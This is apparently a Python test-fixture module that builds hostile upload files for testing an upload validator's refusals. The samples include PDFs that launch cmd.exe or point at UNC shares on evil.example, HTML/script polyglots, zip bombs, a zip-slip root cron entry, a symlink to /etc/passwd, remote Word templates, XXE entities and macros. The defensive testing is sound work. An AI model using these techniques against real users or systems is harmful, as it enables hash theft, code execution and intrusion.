"""Test files generated in the tests (no binary fixtures in git): valid ones and the T8 attacks."""

import io
import struct
import zipfile
from dataclasses import dataclass

import pikepdf
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf_bytes(
    configure=None, *, text: str = "Kosten- und Finanzierungsplan", **save_options
) -> bytes:
    """A small real PDF with one page of text; `configure(pdf)` may add (hostile) objects."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 72 770 Td ({text}) Tj ET".encode("latin-1"))
    if configure is not None:
        configure(pdf)
    out = io.BytesIO()
    pdf.save(out, **save_options)
    return out.getvalue()


def png_bytes(size=(40, 20)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (0, 90, 160)).save(out, format="PNG")
    return out.getvalue()


def jpeg_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 20), (200, 30, 30)).save(out, format="JPEG")
    return out.getvalue()


CONTENT_TYPES_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Sachbericht für das Jahr 2026 – Vielfalt & Teilhabe</w:t></w:r></w:p>"
    "</w:body></w:document>"
)


def docx_bytes(
    extra: dict[str, bytes] | None = None, content_types: str = CONTENT_TYPES_DOCX
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("word/document.xml", DOCUMENT_XML)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Position", "Betrag"])
    sheet.append(["Personalkosten", 12345.67])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def odf_bytes(mimetype: str = "application/vnd.oasis.opendocument.text", extra=None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)  # stored, first
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
        archive.writestr("content.xml", "<office:document-content/>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


# --- attacks ---------------------------------------------------------------------------------


def pdf_with_javascript() -> bytes:
    def configure(pdf):
        action = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')"))
        )
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
        )

    return pdf_bytes(configure)


def pdf_with_open_action() -> bytes:
    def configure(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/"))
        )

    return pdf_bytes(configure)


def pdf_with_launch_in_annotation() -> bytes:
    def configure(pdf):
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 100, 100]),
            A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
        )
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annotation)]))

    return pdf_bytes(configure)


def pdf_with_embedded_file() -> bytes:
    def configure(pdf):
        pdf.attachments["rechnung.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 evil")

    return pdf_bytes(configure)


def pdf_with_page_additional_action() -> bytes:
    def configure(pdf):
        pdf.pages[0].obj.AA = pikepdf.Dictionary(
            O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.print()"))
        )

    return pdf_bytes(configure)


def pdf_with_xfa() -> bytes:
    def configure(pdf):
        pdf.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>")
        )

    return pdf_bytes(configure)


def pdf_with_plain_open_destination() -> bytes:
    """What LibreOffice and LaTeX write: open page 1 at a zoom; harmless, accepted."""

    def configure(pdf):
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])

    return pdf_bytes(configure)


def zip_bytes(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A valid PDF with a ZIP archive appended (readers find both)."""
    return pdf_bytes() + zip_bytes({"payload.html": b"<script>alert(1)</script>"})


def pdf_html_polyglot() -> bytes:
    pdf = pdf_bytes()
    header, rest = pdf.split(b"\n", 1)
    return header + b"\n%<html><body><script>alert(document.cookie)</script></body></html>\n" + rest


def pdf_with_markup_at(offset: int, markup: bytes) -> bytes:
    """HTML hidden after the first kilobyte: a PDF comment padded to `offset`, then the markup."""
    pdf = pdf_bytes()
    header, rest = pdf.split(b"\n", 1)
    padding = b"%" + b"x" * max(offset - len(header) - 3, 0) + b"\n"
    return header + b"\n" + padding + b"%" + markup + b"\n" + rest


def pdf_with_markup_appended(markup: bytes) -> bytes:
    """Markup after %%EOF: PDF readers ignore it, a browser sniffing the whole file does not."""
    return pdf_bytes() + b"\n" + markup + b"\n"


def pdf_with_markup_in_stream(markup: bytes) -> bytes:
    """Markup in an uncompressed content stream (a real object, not a comment)."""

    def configure(pdf):
        page = pdf.pages[0]
        page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 770 Td (Plan) Tj ET\n% " + markup)

    return pdf_bytes(configure, compress_streams=False)


def _link_annotation(pdf, action: pikepdf.Dictionary) -> None:
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=pikepdf.Array([0, 0, 100, 100]),
        A=action,
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annotation)]))


def pdf_with_link(action: pikepdf.Dictionary, **save_options) -> bytes:
    return pdf_bytes(lambda pdf: _link_annotation(pdf, action), **save_options)


def pdf_with_gotor_unc() -> bytes:
    """/GoToR opens another PDF; on a UNC path Windows sends the user's NTLM hash to that host."""
    return pdf_with_link(
        pikepdf.Dictionary(
            S=pikepdf.Name.GoToR,
            F=pikepdf.String("\\\\evil.example\\share\\plan.pdf"),
            D=pikepdf.Array([0, pikepdf.Name.Fit]),
        )
    )


def pdf_with_gotor_url_filespec() -> bytes:
    """/GoToR whose file is a URL file specification dictionary without /Type."""
    return pdf_with_link(
        pikepdf.Dictionary(
            S=pikepdf.Name.GoToR,
            F=pikepdf.Dictionary(
                FS=pikepdf.Name.URL, F=pikepdf.String("file://evil.example/share/plan.pdf")
            ),
            D=pikepdf.Array([0, pikepdf.Name.Fit]),
        )
    )


def pdf_with_uri(target: str) -> bytes:
    return pdf_with_link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(target)))


def pdf_with_launch_in_object_stream() -> bytes:
    """A /Launch action compressed inside an object stream (PDF 1.5), invisible to a byte scan."""
    return pdf_with_link(
        pikepdf.Dictionary(
            S=pikepdf.Name.Launch,
            Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")),
        ),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


def pdf_with_launch_in_next_chain() -> bytes:
    """A harmless /GoTo whose /Next runs a /Launch (actions chain)."""
    return pdf_with_link(
        pikepdf.Dictionary(
            S=pikepdf.Name.GoTo,
            D=pikepdf.Array([0, pikepdf.Name.Fit]),
            Next=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("\\\\evil\\x.exe")),
        ),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


def pdf_with_web_link() -> bytes:
    """An ordinary link to a web page: accepted."""
    return pdf_with_uri("https://integrationskompass.hessen.de/")


SVG_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>fetch('/api/')</script></body></html>"


def zip_bomb_docx() -> bytes:
    """A .docx whose document part inflates from ~100 KB to 100 MB (ratio ~1000)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_DOCX)
        archive.writestr("_rels/.rels", RELS)
        with archive.open("word/document.xml", "w", force_zip64=False) as part:
            block = b"\0" * (1024 * 1024)
            for _ in range(100):
                part.write(block)
    return out.getvalue()


def zip_bomb_docx_with_lying_header() -> bytes:
    """A small bomb whose central directory claims tiny sizes for the inflated part."""
    data = bytearray(docx_bytes(extra={"word/media/big.xml": b"A" * (5 * 1024 * 1024)}))
    # patch the declared uncompressed size of the big entry in the central directory to 1000
    name = b"word/media/big.xml"
    position = data.find(b"PK\x01\x02")
    while position >= 0:
        name_length = struct.unpack("<H", data[position + 28 : position + 30])[0]
        if data[position + 46 : position + 46 + name_length] == name:
            data[position + 24 : position + 28] = struct.pack("<I", 1000)
        position = data.find(b"PK\x01\x02", position + 4)
    return bytes(data)


def zip_many_entries(count: int = 10_001) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_DOCX)
        for index in range(count - 1):
            archive.writestr(f"word/p{index}.xml", b"")
    return out.getvalue()


def zip_slip_docx() -> bytes:
    return docx_bytes(extra={"../../../etc/cron.d/evil": b"* * * * * root sh"})


def zip_symlink_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_DOCX)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("word/document.xml", DOCUMENT_XML)
        link = zipfile.ZipInfo("word/media/passwd")
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _rels(*relationships: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(relationships)
        + "</Relationships>"
    ).encode()


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx_with_remote_template(target: str = "http://evil.example/vorlage.dotm") -> bytes:
    """Word loads the template named in settings.xml.rels when it opens the document."""
    return docx_bytes(
        extra={
            "word/settings.xml": b'<w:settings xmlns:w="http://schemas.openxmlformats.org/'
            b'wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{_REL}attachedTemplate" Target="{target}" '
                'TargetMode="External"/>'
            ),
        }
    )


def docx_with_ole_link() -> bytes:
    """A linked (not embedded) OLE object: Word fetches and updates it from the file server."""
    return docx_bytes(
        extra={
            "word/_rels/document.xml.rels": _rels(
                f"<Relationship Id='rId7' Type='{_REL}oleObject' "
                "Target='file:///\\\\evil.example\\share\\tabelle.xlsx!Tabelle1' "
                "TargetMode = 'External'/>"
            )
        }
    )


def docx_with_external_frame() -> bytes:
    """A frame in webSettings pointing outside (another remote-template trick)."""
    return docx_bytes(
        extra={
            "word/_rels/webSettings.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{_REL}frame" Target="https://evil.example/f" '
                'TargetMode="External"/>'
            )
        }
    )


def docx_with_external_in_root_rels() -> bytes:
    return docx_bytes(
        extra={
            "customXml/_rels/item1.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{_REL}customXmlProps" '
                'Target="\\\\evil.example\\share\\p.xml" TargetMode="External"/>'
            )
        }
    )


def docx_with_unc_hyperlink() -> bytes:
    return docx_bytes(
        extra={
            "word/_rels/document.xml.rels": _rels(
                f'<Relationship Id="rId3" Type="{_REL}hyperlink" '
                'Target="\\\\evil.example\\share" TargetMode="External"/>'
            )
        }
    )


def docx_with_entity_in_rels() -> bytes:
    """A DOCTYPE with entities in a relationships part (entity expansion / XXE): refused."""
    return docx_bytes(
        extra={
            "word/_rels/document.xml.rels": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e '
            b'"External">]><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" Type="x" Target="http://evil.example/" '
            b'TargetMode="&e;"/></Relationships>'
        }
    )


def docx_with_web_hyperlink() -> bytes:
    """An ordinary hyperlink to a web page: an external relationship that is accepted."""
    return docx_bytes(
        extra={
            "word/_rels/document.xml.rels": _rels(
                f'<Relationship Id="rId3" Type="{_REL}hyperlink" '
                'Target="https://wir-vielfalt.hessen.de/" TargetMode="External"/>'
            )
        }
    )


def docx_with_macros() -> bytes:
    return docx_bytes(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})


def docm_as_docx() -> bytes:
    return docx_bytes(
        content_types=CONTENT_TYPES_DOCX.replace(
            "officedocument.wordprocessingml.document.main+xml",
            "ms-word.document.macroEnabled.main+xml",
        )
    )


@dataclass(frozen=True)
class Attack:
    id: str
    name: str
    content: bytes
    content_type: str
    code: str


def attacks(max_bytes: int) -> list[Attack]:
    """Every T8 attack file with the refusal code we expect."""
    pdf = pdf_bytes()
    return [
        Attack("eicar-txt-as-pdf", "rechnung.pdf", EICAR, "application/pdf", "malware"),
        Attack("eicar-appended-to-pdf", "rechnung.pdf", pdf + EICAR, "application/pdf", "malware"),
        Attack(
            "eicar-inside-docx",
            "bericht.docx",
            docx_bytes(extra={"word/x.txt": EICAR}),
            "",
            "malware",
        ),
        Attack("pdf-zip-polyglot", "plan.pdf", pdf_zip_polyglot(), "application/pdf", "polyglot"),
        Attack("pdf-html-polyglot", "plan.pdf", pdf_html_polyglot(), "application/pdf", "polyglot"),
        Attack(
            "pdf-html-after-first-kb",
            "plan.pdf",
            pdf_with_markup_at(2048, b"<html><body><script>alert(1)</script></body></html>"),
            "application/pdf",
            "polyglot",
        ),
        Attack(
            "pdf-script-at-100kb",
            "plan.pdf",
            pdf_with_markup_at(100 * 1024, b"<script>alert(document.cookie)</script>"),
            "application/pdf",
            "polyglot",
        ),
        Attack(
            "pdf-svg-onload-at-900kb",
            "plan.pdf",
            pdf_with_markup_at(900 * 1024, b"<svg onload=alert(1)>"),
            "application/pdf",
            "polyglot",
        ),
        Attack(
            "pdf-html-after-eof",
            "plan.pdf",
            pdf_with_markup_appended(b"<HTML><BODY onload=alert(1)>"),
            "application/pdf",
            "polyglot",
        ),
        Attack(
            "pdf-script-in-content-stream",
            "plan.pdf",
            pdf_with_markup_in_stream(b"< script>alert(1)</script>"),
            "application/pdf",
            "polyglot",
        ),
        Attack(
            "pdf-gotor-unc",
            "plan.pdf",
            pdf_with_gotor_unc(),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-gotor-url-filespec",
            "plan.pdf",
            pdf_with_gotor_url_filespec(),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-uri-unc",
            "plan.pdf",
            pdf_with_uri("\\\\evil.example\\share\\x"),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-uri-unc-forward-slashes",
            "plan.pdf",
            pdf_with_uri("//evil.example/share/x"),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-uri-file",
            "plan.pdf",
            pdf_with_uri("file://evil.example/share/x.pdf"),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-uri-file-uppercase-spaces",
            "plan.pdf",
            pdf_with_uri("  FILE:///C:/Windows/System32/calc.exe"),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-uri-smb",
            "plan.pdf",
            pdf_with_uri("smb://evil.example/share"),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-launch-in-object-stream",
            "plan.pdf",
            pdf_with_launch_in_object_stream(),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-launch-in-next-chain",
            "plan.pdf",
            pdf_with_launch_in_next_chain(),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "docx-remote-template",
            "bericht.docx",
            docx_with_remote_template(),
            "",
            "external_reference",
        ),
        Attack(
            "docx-remote-template-unc",
            "bericht.docx",
            docx_with_remote_template("\\\\evil.example\\share\\vorlage.dotm"),
            "",
            "external_reference",
        ),
        Attack("docx-ole-link", "bericht.docx", docx_with_ole_link(), "", "external_reference"),
        Attack(
            "docx-external-frame",
            "bericht.docx",
            docx_with_external_frame(),
            "",
            "external_reference",
        ),
        Attack(
            "docx-external-customxml",
            "bericht.docx",
            docx_with_external_in_root_rels(),
            "",
            "external_reference",
        ),
        Attack(
            "docx-unc-hyperlink",
            "bericht.docx",
            docx_with_unc_hyperlink(),
            "",
            "external_reference",
        ),
        Attack(
            "docx-entity-in-rels",
            "bericht.docx",
            docx_with_entity_in_rels(),
            "",
            "archive_unsafe",
        ),
        Attack(
            "pdf-javascript",
            "plan.pdf",
            pdf_with_javascript(),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-openaction",
            "plan.pdf",
            pdf_with_open_action(),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-launch",
            "plan.pdf",
            pdf_with_launch_in_annotation(),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-embedded-file",
            "plan.pdf",
            pdf_with_embedded_file(),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack(
            "pdf-additional-action",
            "plan.pdf",
            pdf_with_page_additional_action(),
            "application/pdf",
            "pdf_active_content",
        ),
        Attack("pdf-xfa", "formular.pdf", pdf_with_xfa(), "application/pdf", "pdf_active_content"),
        Attack("svg-script-as-pdf", "bild.pdf", SVG_SCRIPT, "application/pdf", "content_mismatch"),
        Attack("svg-script-as-svg", "bild.svg", SVG_SCRIPT, "image/svg+xml", "type_not_allowed"),
        Attack("html-as-pdf", "antrag.pdf", HTML_PAGE, "application/pdf", "content_mismatch"),
        Attack("html-as-html", "antrag.html", HTML_PAGE, "text/html", "type_not_allowed"),
        Attack("wrong-declared-type", "plan.pdf", pdf, "text/html", "content_type_mismatch"),
        Attack("png-named-pdf", "plan.pdf", png_bytes(), "application/pdf", "content_mismatch"),
        Attack("pdf-named-docx", "bericht.docx", pdf, "", "content_mismatch"),
        Attack(
            "exe-named-pdf",
            "setup.pdf",
            b"MZ\x90\x00\x03" + b"\0" * 200,
            "application/pdf",
            "content_mismatch",
        ),
        Attack("empty", "leer.pdf", b"", "application/pdf", "empty"),
        Attack(
            "max-plus-one",
            "gross.pdf",
            pdf + b"%" * (max_bytes + 1 - len(pdf)),
            "application/pdf",
            "too_large",
        ),
        Attack("zip-bomb-docx", "bombe.docx", zip_bomb_docx(), "", "archive_unsafe"),
        Attack(
            "zip-bomb-lying-header", "bombe.docx", zip_bomb_docx_with_lying_header(), "", "corrupt"
        ),
        Attack("zip-10001-entries", "viele.docx", zip_many_entries(), "", "archive_unsafe"),
        Attack("zip-slip", "slip.docx", zip_slip_docx(), "", "archive_unsafe"),
        Attack("zip-symlink", "link.docx", zip_symlink_docx(), "", "archive_unsafe"),
        Attack("docx-vbaproject", "makro.docx", docx_with_macros(), "", "macro"),
        Attack("docm-content-as-docx", "makro.docx", docm_as_docx(), "", "macro"),
        Attack(
            "plain-zip-as-docx",
            "archiv.docx",
            zip_bytes({"a.txt": b"hallo"}),
            "",
            "content_mismatch",
        ),
        Attack(
            "exe-extension",
            "setup.exe",
            b"MZ\x90\x00",
            "application/octet-stream",
            "type_not_allowed",
        ),
        Attack("no-extension", "rechnung", pdf, "application/pdf", "type_not_allowed"),
        Attack(
            "rtlo-name",
            "rechnung\u202efdp.exe",
            b"MZ\x90\x00",
            "application/pdf",
            "type_not_allowed",
        ),
        Attack("double-extension", "rechnung.pdf.exe", pdf, "application/pdf", "type_not_allowed"),
        Attack(
            "corrupt-pdf",
            "kaputt.pdf",
            b"%PDF-1.7\n" + b"\x00garbage" * 50,
            "application/pdf",
            "corrupt",
        ),
    ]
